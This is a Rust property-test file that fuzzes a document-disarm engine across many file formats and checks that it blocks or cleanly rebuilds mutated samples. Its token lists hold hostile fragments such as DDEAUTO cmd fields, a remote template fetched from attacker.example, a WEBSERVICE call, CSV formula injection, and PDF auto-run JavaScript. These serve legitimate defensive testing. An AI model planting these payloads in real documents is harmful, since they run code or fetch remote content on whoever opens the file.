//! Property tests, one per format family: samples of the family, mutated (bytes flipped, format
//! tokens inserted, the end cut off, chunks copied or deleted; for zip packages also inside one
//! entry, written back with a valid CRC so that the format's own reader sees the damage), go
//! through the engine, and
//!
//! - the outcome is a rebuild or a block with a named reason: never `internal_error` (a caught
//!   panic) and never `timeout` (an input this small must finish far within the budget);
//! - whatever comes out as clean passes the project's own re-scan: processing the output again
//!   gives the same verdict, the same bytes and no actions at all (disarm is idempotent).
//!
//! The cases are drawn from a fixed seed so that every run checks the same inputs;
//! `PROPTEST_RNG_SEED` and `PROPTEST_CASES` draw others or more, and `MUGAI_CORPUS` adds the
//! files of a folder of real documents to each family (by extension). A failing case is saved under
//! `target/tmp/properties/`; what these properties found is kept as a named regression test in
//! the format's own test file (`markup::regression_...`).

use super::common::{process, same_output_again};
use mugai::engine::Outcome;
use mugai::model::{Kind, Reason, Verdict};
use mugai::samples::{self, Sample};
use proptest::prelude::*;
use proptest::sample::Index;
use proptest::test_runner::{Config as ProptestConfig, RngSeed, TestCaseError, TestRunner};
use std::io::{Cursor, Read, Write};

/// Cases per family. The whole set runs in about 10 s in a debug build on two cores (most
/// mutations are refused at the first parse); `PROPTEST_CASES` runs more.
const CASES: u32 = 512;

/// Samples larger than this are left out (bombs and large documents: mutating them only
/// repeats the hostile-input suite, slowly).
const MAX_SAMPLE_BYTES: usize = 200 * 1024;

/// One change to a file's bytes.
#[derive(Clone, Debug)]
enum Mutation {
    /// The byte at a place XORed with a non-zero value.
    Flip(Index, u8),
    /// One of the family's tokens inserted at a place.
    Insert(Index, Index),
    /// Everything from a place on cut off.
    Truncate(Index),
    /// Up to 64 bytes from one place copied in at another.
    Splice(Index, u8, Index),
    /// Up to 64 bytes deleted at a place.
    Delete(Index, u8),
    /// One of the family's tokens inserted right after a `>` (so that markup stays well-formed
    /// more often than at a random place, and the rewriters, not only the parsers, see it).
    AfterTag(Index, Index),
}

fn mutation() -> impl Strategy<Value = Mutation> {
    prop_oneof![
        3 => (any::<Index>(), 1u8..=255).prop_map(|(at, x)| Mutation::Flip(at, x)),
        3 => (any::<Index>(), any::<Index>()).prop_map(|(at, t)| Mutation::Insert(at, t)),
        1 => any::<Index>().prop_map(Mutation::Truncate),
        2 => (any::<Index>(), 1u8..=64, any::<Index>()).prop_map(|(from, n, at)| Mutation::Splice(from, n, at)),
        1 => (any::<Index>(), 1u8..=64).prop_map(|(at, n)| Mutation::Delete(at, n)),
        3 => (any::<Index>(), any::<Index>()).prop_map(|(at, t)| Mutation::AfterTag(at, t)),
    ]
}

fn apply(data: &mut Vec<u8>, m: &Mutation, tokens: &[&[u8]]) {
    if data.is_empty() {
        return;
    }
    let len = data.len();
    match m {
        Mutation::Flip(at, x) => data[at.index(len)] ^= x,
        Mutation::Insert(at, t) => {
            if !tokens.is_empty() {
                let token = tokens[t.index(tokens.len())];
                let at = at.index(len + 1);
                data.splice(at..at, token.iter().copied());
            }
        }
        Mutation::Truncate(at) => data.truncate(at.index(len)),
        Mutation::Splice(from, n, at) => {
            let from = from.index(len);
            let chunk = data[from..(from + *n as usize).min(len)].to_vec();
            let at = at.index(len + 1);
            data.splice(at..at, chunk);
        }
        Mutation::Delete(at, n) => {
            let at = at.index(len);
            data.drain(at..(at + *n as usize).min(len));
        }
        Mutation::AfterTag(at, t) => {
            let ends: Vec<usize> = data.iter().enumerate().filter(|(_, &b)| b == b'>').map(|(i, _)| i + 1).collect();
            if !tokens.is_empty() && !ends.is_empty() {
                let token = tokens[t.index(tokens.len())];
                let at = ends[at.index(ends.len())];
                data.splice(at..at, token.iter().copied());
            }
        }
    }
}

/// Where the mutations go: the file's bytes, or (zip packages) the data of one entry.
#[derive(Clone, Debug)]
enum Target {
    Bytes,
    Entry(Index),
}

/// The package with the entry chosen by `which` (among entries `pick` accepts) changed by
/// `change`, every entry written again with a valid CRC (`mimetype` stored, as ODF requires).
/// `None` when the bytes are not a zip or no entry is accepted.
fn change_entry(
    package: &[u8],
    which: &Index,
    pick: fn(&str) -> bool,
    change: impl FnOnce(&mut Vec<u8>),
) -> Option<Vec<u8>> {
    use zip::write::SimpleFileOptions;
    use zip::CompressionMethod;
    let mut zip = zip::ZipArchive::new(Cursor::new(package)).ok()?;
    let names: Vec<String> = zip.file_names().filter_map(|n| n.ok().map(|n| n.into_owned())).collect();
    let candidates: Vec<&String> = names.iter().filter(|n| pick(n)).collect();
    if candidates.is_empty() {
        return None;
    }
    let target = candidates[which.index(candidates.len())].clone();
    let mut change = Some(change);
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for name in &names {
        let mut data = Vec::new();
        zip.by_name(name).ok()?.read_to_end(&mut data).ok()?;
        if *name == target {
            if let Some(c) = change.take() {
                c(&mut data);
            }
        }
        let method = if name == "mimetype" { CompressionMethod::Stored } else { CompressionMethod::Deflated };
        w.start_file(name.as_str(), SimpleFileOptions::default().compression_method(method)).ok()?;
        w.write_all(&data).ok()?;
    }
    Some(w.finish().ok()?.into_inner())
}

/// A format family: its samples, the tokens inserted into them, and for zip packages the
/// entries whose data may be mutated.
struct Family {
    samples: Vec<Sample>,
    tokens: &'static [&'static [u8]],
    entries: Option<fn(&str) -> bool>,
}

impl Family {
    fn new(samples: Vec<Sample>, tokens: &'static [&'static [u8]]) -> Self {
        let samples = samples.into_iter().filter(|s| s.bytes.len() <= MAX_SAMPLE_BYTES).collect();
        Family { samples, tokens, entries: None }
    }

    /// With `MUGAI_CORPUS` naming a folder, its files with one of these extensions join the
    /// samples (real documents mutated the same way; nothing of them is kept).
    fn with_corpus(mut self, exts: &[&str]) -> Self {
        let Some(dir) = std::env::var_os("MUGAI_CORPUS") else { return self };
        for entry in walkdir::WalkDir::new(dir).sort_by_file_name().into_iter().flatten() {
            let path = entry.path();
            let ext = path.extension().map(|e| e.to_string_lossy().to_ascii_lowercase()).unwrap_or_default();
            if !entry.file_type().is_file() || !exts.contains(&ext.as_str()) {
                continue;
            }
            let Ok(bytes) = std::fs::read(path) else { continue };
            if bytes.len() <= MAX_SAMPLE_BYTES {
                let name = entry.file_name().to_string_lossy().into_owned();
                // The expectation is not used here: only the engine's own consistency is checked.
                let expected = samples::Expected::blocked(Reason::Malformed);
                self.samples.push(Sample { file_name: Box::leak(name.into_boxed_str()), bytes, expected });
            }
        }
        self
    }

    fn with_entries(mut self, pick: fn(&str) -> bool) -> Self {
        self.entries = Some(pick);
        self
    }

    /// The mutated input of one case.
    fn mutate(&self, sample: &Index, target: &Target, mutations: &[Mutation]) -> (&'static str, Vec<u8>) {
        let s = &self.samples[sample.index(self.samples.len())];
        let change = |d: &mut Vec<u8>| mutations.iter().for_each(|m| apply(d, m, self.tokens));
        let mutated = match (target, self.entries) {
            (Target::Entry(which), Some(pick)) => change_entry(&s.bytes, which, pick, change),
            _ => None,
        };
        let bytes = mutated.unwrap_or_else(|| {
            let mut d = s.bytes.clone();
            change(&mut d);
            d
        });
        (s.file_name, bytes)
    }
}

/// The properties for one processed input: a named outcome, and a clean output that is a fixed
/// point of the engine.
fn check(name: &str, input: &[u8], tally: &Tally) -> Result<(), TestCaseError> {
    let o = process(name, input);
    tally.count(&o);
    check_outcome(name, &o)
}

/// How the cases of one property ended, printed after it ran.
#[derive(Default)]
struct Tally(std::sync::Mutex<std::collections::BTreeMap<String, u32>>);

impl Tally {
    fn count(&self, o: &Outcome) {
        let key = match o.reason {
            Some(r) => format!("blocked {}", r.as_str()),
            None => o.verdict.as_str().to_string(),
        };
        *self.0.lock().unwrap_or_else(|p| p.into_inner()).entry(key).or_default() += 1;
    }
}

fn check_outcome(name: &str, o: &Outcome) -> Result<(), TestCaseError> {
    let detail = o.detail.as_deref().unwrap_or("");
    prop_assert!(o.reason != Some(Reason::InternalError), "{name}: internal error: {detail}");
    prop_assert!(o.reason != Some(Reason::Timeout), "{name}: timeout: {detail}");
    if o.verdict == Verdict::Blocked {
        prop_assert!(o.reason.is_some(), "{name}: blocked without a reason");
        prop_assert!(o.output.is_none(), "{name}: blocked with an output");
        return Ok(());
    }
    let Some(out) = &o.output else {
        return Err(TestCaseError::fail(format!("{name}: {:?} without output", o.verdict)));
    };
    let out_name = o.output_name.clone().unwrap_or_else(|| name.to_string());
    let again = process(&out_name, out);
    let second = (again.verdict, again.reason, again.detail.as_deref().unwrap_or(""));
    prop_assert!(again.verdict != Verdict::Blocked, "{name}: its own output is blocked: {second:?}");
    prop_assert!(again.actions.is_empty(), "{name}: a second pass still acts: {:?}", again.actions);
    let is_mail = o.output_kind == Some(Kind::Eml);
    let same = again.output.as_deref().is_some_and(|b| same_output_again(out, b, is_mail));
    prop_assert!(same, "{name}: a second pass changed the bytes");
    Ok(())
}

/// Runs `cases` cases of the family's property from a fixed seed (unless the environment asks
/// for another seed or case count).
fn run_family(family_name: &str, family: Family, cases: u32, seed: u64) {
    let mut config = ProptestConfig::default();
    if std::env::var_os("PROPTEST_CASES").is_none() {
        config.cases = cases;
    }
    if std::env::var_os("PROPTEST_RNG_SEED").is_none() {
        config.rng_seed = RngSeed::Fixed(seed);
    }
    config.failure_persistence = None;
    // Each shrinking step runs the engine twice; a short search still names a small case.
    config.max_shrink_iters = 64;
    assert!(!family.samples.is_empty());
    let target = if family.entries.is_some() {
        prop_oneof![Just(Target::Bytes), any::<Index>().prop_map(Target::Entry)].boxed()
    } else {
        Just(Target::Bytes).boxed()
    };
    let strategy = (any::<Index>(), target, proptest::collection::vec(mutation(), 1..4));
    let mut runner = TestRunner::new(config);
    let tally = Tally::default();
    let result = runner.run(&strategy, |(sample, target, mutations)| {
        let (name, input) = family.mutate(&sample, &target, &mutations);
        check(name, &input, &tally).map_err(|e| {
            // The last failing input is the smallest found: kept to be looked at.
            let dir = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("properties");
            let saved = std::fs::create_dir_all(&dir).and_then(|_| std::fs::write(dir.join(name), &input));
            TestCaseError::fail(format!("{e} (input saved: {:?})", saved.map(|_| dir.join(name))))
        })
    });
    eprintln!("{family_name}: {:?}", tally.0.lock().unwrap_or_else(|p| p.into_inner()));
    if let Err(e) = result {
        panic!("{e}");
    }
}

fn is_markup_part(n: &str) -> bool {
    n.ends_with(".xml") || n.ends_with(".rels")
}

const XML_TOKENS: &[&[u8]] = &[
    b"<",
    b"</w:r>",
    b"r:id=\"rId1\"",
    b"&#0;",
    b"]]>",
    b"<!DOCTYPE x>",
    b"<w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" </w:instrText>",
    b" TargetMode=\"External\"",
    b"<office:event-listeners>",
    b"xlink:href=\"macro:///Standard.Module1.Main\"",
    b"<script:event-listener script:language=\"ooo:script\" script:event-name=\"dom:load\"/>",
    b"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEAUTO cmd \"/c calc\"</w:instrText></w:r>",
    b"<w:fldSimple w:instr=\"INCLUDETEXT \\\\host\\share\\a.docx\"><w:r><w:t>x</w:t></w:r></w:fldSimple>",
    b"<Relationship Id=\"rIdX\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://attacker.example/t.dotm\" TargetMode=\"External\"/>",
    b"<Override PartName=\"/word/vbaProject.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>",
    b"<c><f>WEBSERVICE(\"https://attacker.example/\")</f></c>",
    b"<text:a xlink:type=\"simple\" xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document\">x</text:a>",
    b"<draw:object xlink:href=\"./Object 1\"/>",
];

#[test]
fn property_ooxml_mutations() {
    let family = Family::new(samples::all(), XML_TOKENS)
        .with_corpus(&["docx", "docm", "dotm", "xlsx", "xlsm", "xlsb", "pptx", "pptm", "potm"])
        .with_entries(is_markup_part);
    run_family("ooxml", family, CASES, 0x0000_0A11);
}

#[test]
fn property_odf_mutations() {
    let family =
        Family::new(samples::odf::all(), XML_TOKENS).with_corpus(&["odt", "ods", "odp"]).with_entries(is_markup_part);
    run_family("odf", family, CASES, 0x0000_0DF0);
}

#[test]
fn property_ole2_mutations() {
    const TOKENS: &[&[u8]] = &[
        &[0xFE, 0xFF, 0xFF, 0xFF],
        &[0xFF, 0xFF, 0xFF, 0xFF],
        &[0xFD, 0xFF, 0xFF, 0xFF],
        &[0x00, 0x00, 0x00, 0x00],
        b"V\0B\0A\0",
        b"\x01\0O\0l\0e\x001\x000\0N\0a\0t\0i\0v\0e\0",
    ];
    run_family(
        "ole2",
        Family::new(samples::ole2::all(), TOKENS).with_corpus(&["doc", "xls", "ppt"]),
        CASES,
        0x0000_01E2,
    );
}

#[test]
fn property_pdf_mutations() {
    const TOKENS: &[&[u8]] = &[
        b"<<",
        b">>",
        b" 1 0 R",
        b"endobj",
        b"stream\n",
        b"endstream",
        b"/JS (app.alert(1))",
        b"/OpenAction << /S /JavaScript /JS (x) >>",
        b"/Filter /FlateDecode",
        b"xref\n0 1\n0000000000 65535 f \n",
        b"trailer << /Root 1 0 R >>",
        b"/Launch",
        b"#4A",
        b"[",
        b"(",
    ];
    run_family("pdf", Family::new(samples::pdf::all(), TOKENS).with_corpus(&["pdf"]), CASES, 0x0000_0BDF);
}

#[test]
fn property_rtf_mutations() {
    const TOKENS: &[&[u8]] = &[
        b"{",
        b"}",
        b"\\bin8 ",
        b"{\\object\\objemb{\\*\\objdata 0105}}",
        b"{\\*\\template \\\\\\\\host\\\\t.dot}",
        b"\\'",
        b"\\u-1?",
        b"{\\field{\\*\\fldinst DDEAUTO x y}{\\fldrslt z}}",
        b"\\*",
        b"\\",
    ];
    run_family("rtf", Family::new(samples::rtf::all(), TOKENS).with_corpus(&["rtf"]), CASES, 0x0000_07F0);
}

#[test]
fn property_mime_mutations() {
    const TOKENS: &[&[u8]] = &[
        b"\r\n",
        b"\r\n\r\n",
        b"\r\n--",
        b"Content-Type: multipart/mixed; boundary=\"b\"\r\n",
        b"Content-Transfer-Encoding: base64\r\n",
        b"Content-Disposition: attachment; filename=\"a.exe\"\r\n",
        b"=?UTF-8?B?5L2c5oiQ?=",
        b"begin 644 x.exe\r\n",
        b"=\r\n",
        b"\r\n.\r\n",
    ];
    run_family("mime", Family::new(samples::mail::all(), TOKENS).with_corpus(&["eml"]), CASES, 0x0000_E3A1);
}

#[test]
fn property_markup_mutations() {
    const TOKENS: &[&[u8]] = &[
        b"<script>alert(1)</script>",
        b"<",
        b">",
        b"&#",
        b"javascript:",
        b" onload=\"x()\"",
        b"<!DOCTYPE x>",
        b"<![CDATA[",
        b"<?xml-stylesheet href=\"x.xsl\"?>",
        b"<svg>",
        b"\"",
    ];
    run_family("markup", Family::new(samples::markup::all(), TOKENS), CASES, 0x0000_3A2C);
}

#[test]
fn property_archive_mutations() {
    const TOKENS: &[&[u8]] = &[
        b"PK\x03\x04",
        b"PK\x01\x02",
        b"PK\x05\x06",
        b"ustar\0",
        &[0x1F, 0x8B, 8, 0],
        &[0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C],
        b"-lh5-",
        b"../",
    ];
    let mut all: Vec<Sample> = samples::archive::all().into_iter().filter(|s| !is_text_sample(s)).collect();
    all.extend(samples::packed::all());
    let family = Family::new(all, TOKENS).with_corpus(&["zip"]).with_entries(|_| true);
    run_family("archives", family, CASES, 0x0000_A2C7);
}

fn is_text_sample(s: &Sample) -> bool {
    [".csv", ".txt", ".slk"].iter().any(|e| s.file_name.ends_with(e))
}

#[test]
fn property_text_and_csv_mutations() {
    const TOKENS: &[&[u8]] = &[
        b"=",
        b"=cmd|' /C calc'!A0",
        b"+",
        b"-",
        b"@SUM(1)",
        b"\t",
        b",",
        b";",
        b"\"",
        b"\r\n",
        b"C;Y1;X1;EHYPERLINK(\"x\")\r\n",
        b"NN;Nauto_open;ER1C1\r\n",
        &[0xFF, 0xFE],
        &[0x3D, 0x00],
    ];
    let all: Vec<Sample> = samples::archive::all().into_iter().filter(is_text_sample).collect();
    run_family("text/csv", Family::new(all, TOKENS), CASES, 0x0000_7E87);
}
